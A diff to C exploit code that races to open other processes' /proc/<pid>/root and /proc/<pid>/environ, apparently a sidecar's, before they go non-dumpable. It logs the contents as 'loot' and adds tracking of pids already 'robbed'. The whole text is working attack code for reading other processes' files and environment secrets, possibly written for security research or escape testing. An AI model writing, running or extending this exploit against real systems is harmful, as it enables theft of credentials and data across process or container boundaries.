@@ -149,9 +149,20 @@ static void read_through(int dirfd, const char *path, const char *what, int pid)
     loot(" READ %s of %d: %s;", what, pid, buf);
 }
 
+// Pids already robbed: each is counted (and read through) once, so that a won race does not
+// stall the spinning with its reads.
+static int won[4096];
+static int n_won;
+
+static int already_won(int pid) {
+    for (int i = 0; i < n_won && i < 4096; i++)
+        if (won[i] == pid) return 1;
+    return 0;
+}
+
 // One look at pid: try /proc/<pid>/root and /proc/<pid>/environ; use whatever opens.
 static void try_pid(int pid) {
-    if (pid <= 1 || pid == getpid() || pid == getppid()) return;
+    if (pid <= 1 || pid == getpid() || pid == getppid() || already_won(pid)) return;
     char p[64], line[256];
     snprintf(p, sizeof p, "/proc/%d/root", pid);
     R->attempts++;
@@ -165,6 +176,7 @@ static void try_pid(int pid) {
             return;
         }
         R->successes++;
+        won[n_won++ % 4096] = pid;
         cmdline(pid, line, sizeof line);
         loot("OPENED /proc/%d/root (%s) as uid %d;", pid, line, (int)getuid());
         // The sidecar makes itself non-dumpable soon after; an fd taken before still works.
@@ -181,6 +193,7 @@ static void try_pid(int pid) {
         return;
     }
     R->successes++;
+    if (!already_won(pid)) won[n_won++ % 4096] = pid;
     char buf[2048];
     ssize_t n = read(env, buf, sizeof buf - 1);
     close(env);
